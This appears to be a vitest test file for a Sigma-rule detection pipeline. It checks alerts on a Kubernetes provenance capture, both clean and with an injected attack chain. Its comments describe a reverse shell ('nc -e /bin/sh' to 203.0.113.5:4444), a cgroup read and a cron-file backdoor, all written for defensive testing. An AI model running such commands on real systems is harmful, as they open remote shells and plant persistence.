// Detection on the real CORAL capture (../shared/corpus/coral, read in place), pass 1 as the
// pipeline runs it: readProvenance → AutoAttributor + SigmaEventCollector, then SigmaHQ's Linux rules.
//
// The clean capture: 41 executions (all kubelet exec probes, /bin/grpc_health_probe), 35 file writes
// (runc writing /proc/<pid>/attr/apparmor/exec while starting them) and 117 connections (probes and
// service traffic). No Linux rule fires on any of them: the capture is the demo application idling
// under its health checks, and SigmaHQ's Linux rules stay quiet on it.
//
// Then an attack chain, added by this test to a copy of the capture (in a temp dir) in adservice's
// network namespace: its Java process spawns `/bin/sh -c ...`, which runs `nc -e /bin/sh
// 203.0.113.5 4444` (connecting to that public address), `cat /proc/1/cgroup`, and `tee` writing
// /etc/cron.d/backdoor. Each step must raise its rule, attributed to adservice.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FlowRow } from '../../src/attribution/result.js';
import { type DetectionResult, detectInCaptures } from '../../src/detection/detect.js';
import { readBaselineFlows } from '../../src/detection/lateral.js';
import { csvTable } from '../../src/output/csv.js';
import { FLOW_COLUMNS } from '../../src/output/run-files.js';
import { RuleSet } from '../../src/detection/rules.js';
import { loadRules } from '../../src/detection/sigma/load.js';
import { ATTACK_ALERTS as EXPECTED, withAttack } from '../support/attack-capture.js';
import { observeCapture } from '../support/detect-capture.js';
import { repoRoot } from '../support/run-cli.js';

const CORAL = path.resolve(repoRoot, '..', 'shared', 'corpus', 'coral');
const CAPTURE = path.join(CORAL, 'prov-worker-0712234.json');
const SERVICES = path.join(CORAL, 'kubectl_svc.json');
const LINUX_RULES = path.resolve(repoRoot, '..', 'shared', 'corpus', 'sigma', 'rules', 'linux');
const CORAL_RULES = path.resolve(repoRoot, '..', 'shared', 'corpus', 'sigma', 'rules', 'coral');

/** Flows as add-services writes provenance_data_service_flows.csv. */
function flowsCsv(flows: FlowRow[]): string {
  return csvTable(FLOW_COLUMNS, flows.map((f) => [f.svcFrom, f.srcAddress, f.svcTo, f.dstAddress, f.dstPort, f.protocol, f.observed, String(f.connections), f.firstTime, f.lastTime]));
}

/** Rule file → the alerts it raised. */
function byRule(result: DetectionResult) {
  const m = new Map<string, DetectionResult['alerts']>();
  for (const a of result.alerts) m.set(path.basename(a.ruleFile), [...(m.get(path.basename(a.ruleFile)) ?? []), a]);
  return m;
}


describe('SigmaHQ Linux rules on the CORAL capture', () => {
  let rules: RuleSet;
  let clean: DetectionResult;
  let attacked: DetectionResult;
  let dir: string;
  let cleanRun: Awaited<ReturnType<typeof observeCapture>>;
  let attackedRun: Awaited<ReturnType<typeof observeCapture>>;

  beforeAll(async () => {
    rules = RuleSet.forCapture(await loadRules([LINUX_RULES], { skipInvalid: false }));
    cleanRun = await observeCapture(CAPTURE, SERVICES, 'prov-worker-0712234');
    clean = detectInCaptures(rules, [cleanRun.events], cleanRun.outcome.flows().rows);
    dir = await mkdtemp(path.join(tmpdir(), 'clarion-attack-'));
    const copy = path.join(dir, 'prov-attacked.json');
    await writeFile(copy, withAttack(CAPTURE));
    attackedRun = await observeCapture(copy, SERVICES, 'prov-attacked');
    attacked = detectInCaptures(rules, [attackedRun.events], attackedRun.outcome.flows().rows);
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  it('the clean capture: probes, runc and service traffic become events, and no rule fires', () => {
    expect(clean.summary.events.byCategory).toEqual({ process_creation: 41, file_event: 35, network_connection: 117 });
    expect(clean.alerts).toEqual([]);
  });

  it('the attack chain in adservice raises each step’s rule, attributed to adservice', () => {
    const got = byRule(attacked);
    for (const e of EXPECTED) {
      const alerts = got.get(e.rule) ?? [];
      expect(alerts.map((a) => [a.svc, a.pid, a.category]), e.rule).toEqual([['adservice', e.pid, e.category]]);
      const a = alerts[0]!;
      expect(a.attribution).not.toBe('');
      expect(a.capture).toBe('prov-attacked');
      if (e.parentExe) expect(a.parentExe).toBe(e.parentExe);
      if (e.target) expect(a.target).toBe(e.target);
      expect(a.matched.length).toBeGreaterThan(0);
    }
    // Every alert of the attacked capture comes from the injected processes.
    expect(new Set(attacked.alerts.map((a) => a.pid))).toEqual(new Set(['7001', '7002', '7003', '7004']));
    expect(attacked.summary.alerts.byService).toEqual({ adservice: attacked.alerts.length });
  });

  it('the clean capture raises none of those rules', () => {
    const cleanRules = new Set(clean.alerts.map((a) => path.basename(a.ruleFile)));
    for (const e of EXPECTED) expect(cleanRules.has(e.rule)).toBe(false);
  });

  it('the rules CORAL tied to these services by substring do not fire on the clean capture either', async () => {
    const coral = RuleSet.forCapture(await loadRules([CORAL_RULES], { skipInvalid: false }));
    expect(coral.summary().applied).toBe(63);
    // Derived events can be iterated again: the same events as for the Linux rules.
    expect(detectInCaptures(coral, [cleanRun.events], cleanRun.outcome.flows().rows).alerts).toEqual([]);
  });

  it('with the flows of the clean run as the baseline, the connection of the attack is the one new flow', async () => {
    const baselineFile = path.join(dir, 'provenance_data_service_flows.csv');
    await writeFile(baselineFile, flowsCsv(cleanRun.outcome.flows().rows));
    const baseline = { path: baselineFile, keys: await readBaselineFlows(baselineFile) };
    const result = detectInCaptures(rules, [attackedRun.events], attackedRun.outcome.flows().rows, baseline);
    expect(result.newFlows.map((n) => [n.flow.svcFrom, n.flow.dstAddress, n.flow.dstPort, n.source?.fields.ProcessId])).toEqual([['adservice', '203.0.113.5', '4444', '7002']]);
    expect(result.alerts.filter((a) => a.ruleId === 'clarion:new-flow').map((a) => [a.svc, a.pid, a.target, a.level])).toEqual([['adservice', '7002', '203.0.113.5:4444', 'medium']]);
    expect(result.summary.lateralMovement).toEqual({ baseline: baselineFile, newFlows: 1 });
  });
});
